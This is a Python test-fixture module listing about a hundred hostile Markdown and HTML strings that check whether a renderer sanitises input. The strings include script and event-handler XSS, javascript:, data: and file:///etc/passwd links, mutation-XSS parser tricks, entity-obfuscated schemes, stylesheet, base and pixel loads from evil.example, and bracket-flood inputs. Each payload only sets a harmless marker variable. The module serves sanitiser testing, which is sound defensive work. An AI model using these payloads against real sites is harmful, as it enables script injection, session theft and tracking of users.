"""Texts that try to run a script, leave the page or reach another host when they are shown as Markdown.

Each sets :data:`MARK` or names a host of somebody else, so that what got through is easily seen: in the HTML by a
parser, in a browser by the mark or a dialog.
"""

from __future__ import annotations

from typing import Final

#: what a script that ran would leave behind: ``window[MARK]``
MARK: Final = "zbPwned"
_JS: Final = f"window.{MARK}=1"
_FILE: Final = "0" * 32

HOSTILE_MARKDOWN: Final[tuple[str, ...]] = (
    # plain tags
    f"<script>{_JS}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script\n>{_JS}</script\n>",
    f"a <script>{_JS}</script> b",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<img src=x onerror={_JS}>",
    f'<img src="x" onerror="{_JS}">',
    f"<img src=x:x onerror\n=\n{_JS}>",
    f"<body onload={_JS}>",
    f"<details open ontoggle={_JS}>",
    f"<input autofocus onfocus={_JS}>",
    f"<video><source onerror={_JS}></video>",
    f"<audio src=x onerror={_JS}>",
    f'<iframe src="javascript:{_JS}"></iframe>',
    f'<iframe srcdoc="<script>{_JS}</script>"></iframe>',
    f'<object data="javascript:{_JS}"></object>',
    f'<embed src="javascript:{_JS}">',
    f'<form action="javascript:{_JS}"><button>x</button></form>',
    f'<button formaction="javascript:{_JS}">x</button>',
    f'<meta http-equiv=refresh content="0;url=javascript:{_JS}">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    f"<marquee onstart={_JS}>x</marquee>",
    f"<isindex type=image src=1 onerror={_JS}>",
    f"<template><script>{_JS}</script></template>",
    f'<div style="background:url(javascript:{_JS})">x</div>',
    f"<style>@import 'https://evil.example/x.css';*{{background:url(javascript:{_JS})}}</style>",
    f'<xss style="animation-name:x" onanimationstart={_JS}></xss>',
    # markup of other languages, and what parsers make of it at the second reading (mXSS)
    f"<svg onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f'<svg><a xlink:href="javascript:{_JS}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe onload={_JS}></iframe></foreignObject></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={_JS}>">',
    f'<math><mi xlink:href="javascript:{_JS}">x</mi></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={_JS}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>",
    f'<noscript><p title="</noscript><img src=x onerror={_JS}>">',
    f'<textarea><p title="</textarea><img src=x onerror={_JS}>">',
    f'<title><p title="</title><img src=x onerror={_JS}>">',
    f'<select><template><style><!--</style><a title="--><img src onerror={_JS}>">',
    f"<a id=x tabindex=1 onfocus={_JS}></a>",
    # comments, declarations, cut-off tags
    f"<!--><img src=x onerror={_JS}>-->",
    f"<!-- --!><img src=x onerror={_JS}> -->",
    f"<![CDATA[><img src=x onerror={_JS}>]]>",
    f'<!DOCTYPE x [<!ENTITY e "<script>{_JS}</script>">]>&e;',
    f'<?xml-stylesheet href="javascript:{_JS}"?>',
    f"<img src=x onerror={_JS}",
    f"<<script>{_JS}//<</script>",
    f"</p><script>{_JS}</script><p>",
    # entities
    f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"&#60;img src=x onerror={_JS}&#62;",
    f"&#x3c;img src=x onerror={_JS}&#x3e;",
    f"[x](javascript&colon;{_JS})",
    f"[x](&#106;avascript:{_JS})",
    f"[x](java&Tab;script:{_JS})",
    f"[x](java&NewLine;script&colon;{_JS})",
    # addresses
    f"[x](javascript:{_JS})",
    f"[x](JaVaScRiPt:{_JS})",
    f"[x]( javascript:{_JS})",
    f"[x](<javascript:{_JS}>)",
    f"[x](\x01javascript:{_JS})",
    f"[x](vbscript:{_JS})",
    f"[x](data:text/html,<script>{_JS}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuemJQd25lZD0xPC9zY3JpcHQ+)",
    "[x](http://evil.example/)",
    "[x](//evil.example/)",
    "[x](/api/v1/session)",
    "[x](\\\\evil.example)",
    "[x](ftp://evil.example/x)",
    "[x](file:///etc/passwd)",
    f"[x](file:{_FILE}/../../session)",
    f"[x](file:{_FILE}\njavascript:{_JS})",
    f"<javascript:{_JS}>",
    f"<data:text/html,{_JS}>",
    f"[x]\n\n[x]: javascript:{_JS}",
    f"[x][y]\n\n[y]: <data:text/html,<script>{_JS}</script>> 'title'",
    # pictures
    f"![x](javascript:{_JS})",
    "![x](https://evil.example/pixel.png)",
    f"![x](data:image/svg+xml,<svg onload={_JS}>)",
    f"![x](file:{_FILE}?x=1)",
    f"![<img src=x onerror={_JS}>](file:{_FILE})",
    f'![x" onerror="{_JS}](file:{_FILE})',
    f"![x](file:{_FILE} 'a\" onerror=\"{_JS}')",
    f'![x](<file:{_FILE}" onerror="{_JS}>)',
    # titles, code, tables, references
    f"[x](https://gov.example/ '\" onmouseover=\"{_JS}')",
    f'[x](https://gov.example/"onmouseover="{_JS})',
    f'[x](https://gov.example/ "</a><script>{_JS}</script>")',
    f"`<script>{_JS}</script>`",
    f"```<script>{_JS}</script>\n<script>{_JS}</script>\n```",
    f'``` " onload="{_JS}\nx\n```',
    f"| <img src=x onerror={_JS}> | b |\n| --- | --- |\n| <script>{_JS}</script> | [x](javascript:{_JS}) |",
    f"# <img src=x onerror={_JS}>",
    f"> <script>{_JS}</script>",
    f"1. <svg onload={_JS}>",
    f"**<script>{_JS}</script>**",
    f"[<img src=x onerror={_JS}>](https://gov.example/)",
    f'<https://gov.example/"onmouseover="{_JS}>',
    "<!--" * 2000,
    "[" * 3000 + "x",
    "![" * 1500,
    "*" * 4000,
    "> " * 1500 + f"<script>{_JS}</script>",
    "\x00<script>" + _JS + "\x00</script>",
    f"\ufeff<script>{_JS}</script>\u2028<img src=x onerror={_JS}>",
    f"＜script＞{_JS}＜/script＞",
)

#: An SVG that runs a script wherever it is shown as a page or in place.
HOSTILE_SVG: Final = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_JS}"><script>{_JS}</script>'
    f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{_JS}"/></foreignObject></svg>'
)
